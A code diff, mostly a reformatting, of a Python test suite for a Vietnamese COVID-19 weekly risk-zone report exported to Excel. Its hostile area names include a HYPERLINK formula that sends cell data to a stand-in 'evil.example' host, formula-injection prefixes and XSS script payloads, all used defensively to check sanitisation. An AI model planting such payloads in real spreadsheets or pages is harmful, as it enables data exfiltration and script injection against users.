@@ -7,9 +7,9 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from conftest import ROOT, run_cli
 from sqlalchemy import text
 
-from conftest import ROOT, run_cli
 from gis.risk.ruleset import load_ruleset
 from gis.risk.settings import RiskSettings
 from gis.risk.zones import compute_zones
@@ -24,7 +24,12 @@ LOCATED = "batch_id, row_hash, commune_code, area_code"
 # signs and @ stay literal text, control characters XML cannot hold become U+FFFD (TAB and CR are kept).
 HOSTILE = {
     '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")': None,
-    "+1": None, "-2": None, "@SUM(A1:A9)": None, "=1+2": None, "\tTab ở đầu": None, "\rCR ở đầu": None,
+    "+1": None,
+    "-2": None,
+    "@SUM(A1:A9)": None,
+    "=1+2": None,
+    "\tTab ở đầu": None,
+    "\rCR ở đầu": None,
     "Ấp\x01 Một\x0b\x1f": "Ấp\ufffd Một\ufffd\ufffd",
     '<img src=x onerror="window.__xss=1">': None,
     "</td><script>window.__xss=2</script>": None,
@@ -36,50 +41,94 @@ def xlsx_text(name: str) -> str:
     return HOSTILE.get(name) or name
 
 
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                 "--disable-component-update", "--disable-sync", "--disable-quic", "--no-first-run"]
+CHROMIUM_ARGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--disable-quic",
+    "--no-first-run",
+]
 
 
 def insert_events(engine):
     """An outbreak in Tân Phong in the week of 30 Aug (community) with cases found in quarantine elsewhere,
     tests in Biên Hòa and vaccinations of three age groups."""
     with engine.connect() as conn:
-        hamlets = conn.execute(text("SELECT code FROM pub.areas WHERE parent_code = :c ORDER BY code"),
-                               {"c": TAN_PHONG}).scalars().all()
-    cases = [(f"C{i}", SUNDAY - dt.timedelta(days=i % 7), "community", hamlets[i % len(hamlets)], TAN_PHONG)
-             for i in range(90)]
+        hamlets = (
+            conn.execute(text("SELECT code FROM pub.areas WHERE parent_code = :c ORDER BY code"), {"c": TAN_PHONG})
+            .scalars()
+            .all()
+        )
+    cases = [
+        (f"C{i}", SUNDAY - dt.timedelta(days=i % 7), "community", hamlets[i % len(hamlets)], TAN_PHONG)
+        for i in range(90)
+    ]
     cases += [(f"Q{i}", SUNDAY - dt.timedelta(days=i % 5), "quarantine", FAR_COMMUNE, FAR_COMMUNE) for i in range(7)]
     cases += [(f"L{i}", LAST_SUNDAY - dt.timedelta(days=i), "lockdown", FAR_COMMUNE, FAR_COMMUNE) for i in range(3)]
-    tests = [(f"T{i}", f"{SUNDAY - dt.timedelta(days=i % 7)} 09:00+07", "positive" if i % 8 == 0 else "negative",
-              hamlets[i % len(hamlets)], TAN_PHONG) for i in range(40)]
-    doses = [(f"V{i}", f"P{i}", 1940 + i % 70, 1 + i % 2, SUNDAY - dt.timedelta(days=20), hamlets[0], TAN_PHONG)
-             for i in range(300)]
+    tests = [
+        (
+            f"T{i}",
+            f"{SUNDAY - dt.timedelta(days=i % 7)} 09:00+07",
+            "positive" if i % 8 == 0 else "negative",
+            hamlets[i % len(hamlets)],
+            TAN_PHONG,
+        )
+        for i in range(40)
+    ]
+    doses = [
+        (f"V{i}", f"P{i}", 1940 + i % 70, 1 + i % 2, SUNDAY - dt.timedelta(days=20), hamlets[0], TAN_PHONG)
+        for i in range(300)
+    ]
     with engine.begin() as conn:
-        conn.execute(text(f"INSERT INTO events.cases (case_id, person_key, detected_on, detection_setting, "
-                          f"source_known, {LOCATED}) VALUES (:id, 'k' || :id, :d, :s, true, 0, 'h', :c, :a)"),
-                     [{"id": i, "d": d, "s": s, "a": a, "c": c} for i, d, s, a, c in cases])
-        conn.execute(text(f"INSERT INTO events.tests (sample_id, person_key, collected_at, test_type, result, "
-                          f"{LOCATED}) VALUES (:s, 'k' || :s, :at, 'rt_pcr', :r, 0, 'h', :c, :a)"),
-                     [{"s": s, "at": at, "r": r, "a": a, "c": c} for s, at, r, a, c in tests])
-        conn.execute(text(f"INSERT INTO events.vaccinations (dose_id, person_key, birth_year, dose_number, vaccine, "
-                          f"vaccinated_on, {LOCATED}) VALUES (:d, :p, :b, :n, 'AZ', :on, 0, 'h', :c, :a)"),
-                     [{"d": d, "p": p, "b": b, "n": n, "on": on, "a": a, "c": c} for d, p, b, n, on, a, c in doses])
+        conn.execute(
+            text(
+                f"INSERT INTO events.cases (case_id, person_key, detected_on, detection_setting, "
+                f"source_known, {LOCATED}) VALUES (:id, 'k' || :id, :d, :s, true, 0, 'h', :c, :a)"
+            ),
+            [{"id": i, "d": d, "s": s, "a": a, "c": c} for i, d, s, a, c in cases],
+        )
+        conn.execute(
+            text(
+                f"INSERT INTO events.tests (sample_id, person_key, collected_at, test_type, result, "
+                f"{LOCATED}) VALUES (:s, 'k' || :s, :at, 'rt_pcr', :r, 0, 'h', :c, :a)"
+            ),
+            [{"s": s, "at": at, "r": r, "a": a, "c": c} for s, at, r, a, c in tests],
+        )
+        conn.execute(
+            text(
+                f"INSERT INTO events.vaccinations (dose_id, person_key, birth_year, dose_number, vaccine, "
+                f"vaccinated_on, {LOCATED}) VALUES (:d, :p, :b, :n, 'AZ', :on, 0, 'h', :c, :a)"
+            ),
+            [{"d": d, "p": p, "b": b, "n": n, "on": on, "a": a, "c": c} for d, p, b, n, on, a, c in doses],
+        )
 
 
 def hostile_names(engine) -> dict[str, str]:
     """Give the hostile names to every district but Biên Hòa and to Tân Phong's hamlets (which turn red);
     returns code → name."""
     with engine.connect() as conn:
-        districts = conn.execute(text("SELECT code FROM admin.area WHERE level = 2 AND code <> :b ORDER BY code"),
-                                 {"b": BIEN_HOA}).scalars().all()
-        hamlets = conn.execute(text("SELECT code FROM admin.area WHERE parent_code = :c ORDER BY code"),
-                               {"c": TAN_PHONG}).scalars().all()
+        districts = (
+            conn.execute(
+                text("SELECT code FROM admin.area WHERE level = 2 AND code <> :b ORDER BY code"), {"b": BIEN_HOA}
+            )
+            .scalars()
+            .all()
+        )
+        hamlets = (
+            conn.execute(text("SELECT code FROM admin.area WHERE parent_code = :c ORDER BY code"), {"c": TAN_PHONG})
+            .scalars()
+            .all()
+        )
     names = list(HOSTILE)
     assert len(districts) >= len(names)
     renamed = {code: names[i % len(names)] for codes in (districts, hamlets) for i, code in enumerate(codes)}
     with engine.begin() as conn:
-        conn.execute(text("UPDATE admin.area SET name = :n WHERE code = :c"),
-                     [{"c": c, "n": n} for c, n in renamed.items()])
+        conn.execute(
+            text("UPDATE admin.area SET name = :n WHERE code = :c"), [{"c": c, "n": n} for c, n in renamed.items()]
+        )
     return renamed
 
 
@@ -97,8 +146,11 @@ def report(engine, db_url, tmp_path_factory):
 
 def indicators(engine, day):
     with engine.connect() as conn:
-        rows = conn.execute(text("SELECT * FROM stats.indicator WHERE day = :d AND admin_level IN (1, 2)"),
-                            {"d": day}).mappings().all()
+        rows = (
+            conn.execute(text("SELECT * FROM stats.indicator WHERE day = :d AND admin_level IN (1, 2)"), {"d": day})
+            .mappings()
+            .all()
+        )
     return {r["area_code"]: r for r in rows}
 
 
@@ -132,9 +184,10 @@ def test_district_numbers_are_the_stored_indicators(report, engine):
         assert row["Số mẫu dương tính"] == ind["positive_tests_7d"]
         assert row["Tỷ lệ dương tính"] == pytest.approx(ratio(ind["positive_tests_7d"], ind["tests_7d"]))
         for header, num, den in [
-                ("Tiêm ≥1 mũi (18 tuổi trở lên)", "vaccinated_18plus_1dose", "population_18plus"),
-                ("Tiêm đủ liều (50 tuổi trở lên)", "vaccinated_50plus_full", "population_50plus"),
-                ("Tiêm đủ liều (65 tuổi trở lên)", "vaccinated_65plus_full", "population_65plus")]:
+            ("Tiêm ≥1 mũi (18 tuổi trở lên)", "vaccinated_18plus_1dose", "population_18plus"),
+            ("Tiêm đủ liều (50 tuổi trở lên)", "vaccinated_50plus_full", "population_50plus"),
+            ("Tiêm đủ liều (65 tuổi trở lên)", "vaccinated_65plus_full", "population_65plus"),
+        ]:
             assert row[header] == pytest.approx(ratio(ind[num], ind[den])), (row["Mã"], header)
     bien_hoa = next(r for r in rows if r["Mã"] == BIEN_HOA)
     # The sample events: 90 community cases in Tân Phong this week, 5 of 40 tests positive; the 7 quarantine cases
@@ -145,11 +198,14 @@ def test_district_numbers_are_the_stored_indicators(report, engine):
 
 def test_units_per_colour_and_transitions_are_the_stored_zones(report, engine):
     with engine.connect() as conn:
-        zones = conn.execute(text("""
+        zones = conn.execute(
+            text("""
             SELECT a.parent_code AS district, z.colour, count(*) AS n FROM risk.zone z
             JOIN pub.areas a ON a.code = z.area_code
             WHERE z.day = :d AND z.ruleset_id = 'vn-4800-2021' AND z.admin_level = 3
-            GROUP BY 1, 2"""), {"d": SUNDAY}).all()
+            GROUP BY 1, 2"""),
+            {"d": SUNDAY},
+        ).all()
         names = dict(conn.execute(text("SELECT code, name FROM pub.areas WHERE level = 2")).all())
     rows = sheet_rows(report / "bao-cao-tuan-2021-W35.xlsx", "Số đơn vị theo màu")
     by_district = {r["Huyện, thành phố"]: r for r in rows if r["Đơn vị"] == "Xã"}
@@ -158,8 +214,13 @@ def test_units_per_colour_and_transitions_are_the_stored_zones(report, engine):
         assert by_district[xlsx_text(names[district])][colour_header[colour]] == n
     assert by_district["Thành phố Biên Hòa"]["Tăng cấp so với tuần trước"] >= 1
     moves = sheet_rows(report / "bao-cao-tuan-2021-W35.xlsx", "Chuyển màu")
-    assert any(m["Huyện, thành phố"] == "Thành phố Biên Hòa" and m["Đơn vị"] == "Xã" and m["Tuần trước"] == "Xanh"
-               and m["Tuần này"] == "Đỏ" for m in moves)
+    assert any(
+        m["Huyện, thành phố"] == "Thành phố Biên Hòa"
+        and m["Đơn vị"] == "Xã"
+        and m["Tuần trước"] == "Xanh"
+        and m["Tuần này"] == "Đỏ"
+        for m in moves
+    )
 
 
 def test_units_turned_red_are_listed_with_reasons(report, engine):
@@ -167,8 +228,10 @@ def test_units_turned_red_are_listed_with_reasons(report, engine):
     tan_phong = next(r for r in hot if r["Mã"] == TAN_PHONG)
     assert tan_phong["Đơn vị"] == "Phường Tân Phong" and tan_phong["Tuần trước"] == "Xanh"
     assert tan_phong["Tuần này"].startswith("Cấp 4")
-    assert "community_cases_7d_per_100k" in tan_phong["Lý do"] and "community_cases_7d_per_100k" in \
-        tan_phong["Chỉ số quyết định"]
+    assert (
+        "community_cases_7d_per_100k" in tan_phong["Lý do"]
+        and "community_cases_7d_per_100k" in tan_phong["Chỉ số quyết định"]
+    )
     assert all(r["Mã"].startswith(TAN_PHONG) for r in hot)  # nothing else changed
 
 
